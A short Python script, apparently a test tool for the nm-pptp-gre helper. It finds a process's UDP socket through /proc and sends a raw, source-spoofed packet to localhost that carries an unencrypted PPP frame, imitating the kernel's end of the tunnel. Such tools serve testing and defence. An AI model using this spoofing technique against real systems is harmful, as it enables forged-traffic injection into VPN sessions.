#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""readable.py PID: a frame for the helper nm-pptp-gre as from a kernel whose PPP has stopped to encrypt.

It comes from the address of the kernel's end of their UDP sockets, which the helper's is connected to (gre/report.h, gre/l2tp.h).
"""
import os
import socket
import struct
import sys

FRAMES_FD = 4

inode = os.readlink(f"/proc/{sys.argv[1]}/fd/{FRAMES_FD}").strip("socket:[]")
with open("/proc/net/udp", encoding="ascii") as table:
    row = next(line.split() for line in table if line.split()[9] == inode)
helper, kernel = (int(row[i].split(":")[1], 16) for i in (1, 2))
frame = struct.pack(">HHH", 2, 0, 0) + b"\xff\x03\x00\x21readable"
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
sock.sendto(struct.pack(">HHHH", kernel, helper, 8 + len(frame), 0) + frame, ("127.0.0.1", 0))
